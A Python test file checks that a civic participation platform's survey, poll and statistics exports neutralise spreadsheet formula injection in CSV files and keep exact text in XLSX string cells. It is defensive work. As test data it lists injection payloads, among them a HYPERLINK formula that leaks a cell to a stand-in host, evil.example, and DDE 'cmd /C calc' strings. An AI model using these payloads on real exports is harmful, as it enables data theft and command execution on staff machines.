"""Formula injection in exports (issue #23, item 2): text that citizens or staff typed reaches staff's
spreadsheets. Every CSV the platform writes neutralises a cell a spreadsheet would run; the XLSX downloads keep
the exact text in string cells, never formulas; and no module writes CSV any other way."""

import ast
import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from participation.core import csv as tables
from participation.surveys import answering
from participation.surveys.models import Answer
from tests import factories
from tests.conftest import login

PAYLOAD = '=HYPERLINK("https://evil.example/?d="&A1,"더보기")'
ATTACKS = [PAYLOAD, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
           "＝HYPERLINK(\"https://evil.example\")", "＋1", "－1+1", "＠SUM(1)", "  =1+1", "\u3000=1+1",
           "|calc", "%0A=1"]
HARMLESS = ["버스 전용차로를 늘려 주세요", "-3", "12.5", "1+1은 2", "a=b", "", "0"]
PACKAGE = Path(__file__).resolve().parents[2] / "participation"


def runnable(cell: str) -> bool:
    """Whether a spreadsheet could take the cell as a formula or command (the check the writer must pass)."""
    stripped = cell.lstrip(" \u3000")
    return bool(cell) and (cell[0] in tables.TRIGGERS or stripped[:1] in tables.TRIGGERS) and not \
        tables.PLAIN_NUMBER.fullmatch(cell)


def read_csv(response) -> list[list[str]]:
    body = response.get_data()
    assert body.startswith("\ufeff".encode()), body[:20]
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def read_xlsx(response) -> list[list]:
    assert response.mimetype == tables.XLSX_TYPE
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type in ("s", "inlineStr", "n"), (cell.coordinate, cell.value)  # never "f"
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("attack", ATTACKS)
def test_every_runnable_cell_is_neutralised(attack):
    written = tables.neutralise(attack)
    assert written == "'" + attack
    assert not runnable(written)


@pytest.mark.parametrize("value", HARMLESS)
def test_text_and_numbers_that_cannot_run_are_left_alone(value):
    assert tables.neutralise(value) == value
    assert tables.neutralise(-3) == -3 and tables.neutralise(None) == ""


# Pabulib's .pb is an interchange format for participatory-budgeting research tools (pabutools reads it back), not a
# spreadsheet: its values must round-trip exactly, so it is written as the format says.
NOT_SPREADSHEETS = {"budgets/pabulib.py"}


def test_no_module_writes_csv_but_core_csv():
    """One way to write CSV: the stdlib writer appears in core/csv.py only (readers may read)."""
    writers = []
    for path in PACKAGE.rglob("*.py"):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter"} and \
                    isinstance(node.value, ast.Name) and node.value.id == "csv":
                writers.append(str(path.relative_to(PACKAGE)))
    assert sorted(set(writers) - NOT_SPREADSHEETS) == ["core/csv.py"]


def answered_survey(texts: list[str], title: str = "=교통 만족도 조사"):
    staff = factories.staff()
    survey = factories.survey(staff, [
        {"type": "single", "text": "+주로 타는 교통수단은?", "options": ["-지하철", "버스"]},
        {"type": "text", "text": "@하고 싶은 말", "required": False}], title=title)
    single, text = survey.questions
    for answer in texts:
        answering.answer_survey(survey, factories.UserFactory(), {str(single.id): single.options[0].id,
                                                                str(text.id): answer})
    return staff, survey


def test_survey_exports_neutralise_answers_questions_and_options(client, db_session):
    staff, survey = answered_survey(ATTACKS)
    login(client, staff)
    for shape in ("tidy", "wide"):
        response = client.get(f"/surveys/{survey.id}/export/{shape}.csv")
        assert response.status_code == 200 and response.mimetype == "text/csv"
        rows = read_csv(response)
        cells = [cell for row in rows for cell in row]
        assert [cell for cell in cells if runnable(cell)] == [], shape
        assert "'" + PAYLOAD in cells and "'＝HYPERLINK(\"https://evil.example\")" in cells
        assert "'-지하철" in cells


def test_survey_exports_as_xlsx_keep_the_exact_text_in_string_cells(client, db_session):
    staff, survey = answered_survey(ATTACKS)
    login(client, staff)
    tidy = client.get(f"/surveys/{survey.id}/export/tidy.xlsx")
    assert tidy.status_code == 200 and 'filename="survey-' in tidy.headers["Content-Disposition"]
    rows = read_xlsx(tidy)
    assert rows[0][:4] == ["response_id", "submitted_at", "district", "age_band"]
    answers = [row[9] for row in rows[1:] if row[4] == "Q2"]
    # The text as stored (the survey trims it), not a formula (openpyxl gives "" back as None).
    stored = db_session.scalars(select(Answer.text_value).where(Answer.question_id == survey.questions[1].id)).all()
    assert sorted(answer or "" for answer in answers) == sorted(text or "" for text in stored)
    assert PAYLOAD in answers and "＝HYPERLINK(\"https://evil.example\")" in answers
    wide = read_xlsx(client.get(f"/surveys/{survey.id}/export/wide.xlsx"))
    assert wide[0][4:] == ["Q1. +주로 타는 교통수단은?", "Q2. @하고 싶은 말"]
    assert len(wide) == 1 + len(ATTACKS)


def test_poll_result_export_neutralises_title_and_labels(client, db_session):
    from participation.polls.tasks import tally_poll

    officer = factories.staff()
    poll = factories.PollFactory(state="closed", title=PAYLOAD, labels=("=1+1", "@SUM(1)", "－1"),
                                 author_id=officer.id)
    db_session.commit()
    tally_poll(poll.id)
    login(client, officer)
    rows = read_csv(client.get(f"/polls/{poll.id}/export.csv"))
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if runnable(cell)] == []
    assert "'" + PAYLOAD in cells and "'=1+1" in cells
    workbook = read_xlsx(client.get(f"/polls/{poll.id}/export.xlsx"))
    assert [row[4] for row in workbook[1:]] == ["=1+1", "@SUM(1)", "－1"]
    assert [row[5] for row in workbook[1:]] == [0, 0, 0]  # counts stay numbers


def test_statistics_and_open_data_go_through_the_same_writer(client, db_session):
    from participation.indicators.services import load_catalogue

    load_catalogue()
    login(client, factories.staff())
    for path in ("/indicators/statistics.csv?year=2025", "/indicators/data.csv", "/api/v1/indicators.csv?year=2025"):
        response = client.get(path)
        assert response.status_code == 200, path
        rows = read_csv(response)
        assert len(rows) > 1 and not [cell for row in rows for cell in row if runnable(cell)], path
    workbook = read_xlsx(client.get("/indicators/statistics.xlsx?year=2025"))
    assert workbook[0] == ["연도", "표", "채널", "항목", "구분", "값", "비고"]
